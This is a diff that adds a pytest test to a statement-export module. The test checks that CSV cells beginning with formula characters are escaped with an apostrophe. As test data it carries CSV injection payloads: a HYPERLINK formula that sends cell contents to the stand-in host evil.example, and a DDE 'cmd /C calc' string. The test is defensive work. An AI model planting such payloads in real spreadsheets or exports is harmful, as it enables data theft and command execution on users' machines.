@@ -238,3 +238,23 @@ def test_the_query_count_does_not_grow_with_the_statements(negotiation, article,
 def test_an_unknown_format_is_refused(negotiation):
     with pytest.raises(ValueError, match="unknown format 'xml'"):
         export_statements(negotiation, "xml", io.StringIO())
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_csv_cells_that_a_spreadsheet_would_run_as_a_formula_are_quoted_with_an_apostrophe(negotiation, start):
+    # Article text and people's words are untrusted: '=HYPERLINK("http://evil", "x")' opened in
+    # a spreadsheet is a formula, "'=HYPERLINK(...)" is text.
+    formula = f'{start}HYPERLINK("http://evil.example/?"&A1, "click")'
+    article = make_article(negotiation, title=f"{start}1+1", text=f"Varga said: {formula}", url=None)
+    statement = make_statement(article, formula, speaker="Ilse Varga")
+    annotate(statement, note=f"{start}cmd|' /C calc'!A0", speaker=f"{start}SUM(A1:A9)")
+
+    (row,) = export(negotiation, "csv")
+
+    assert row["text"] == f"'{formula}"
+    assert row["article_title"] == f"'{start}1+1"
+    assert row["note"] == f"'{start}cmd|' /C calc'!A0"
+    assert row["speaker"] == f"'{start}SUM(A1:A9)"
+    # Numbers stay numbers and the JSON keeps the text as it is.
+    assert row["start"] == str(statement.start)
+    assert export(negotiation, "json")[0]["text"] == formula
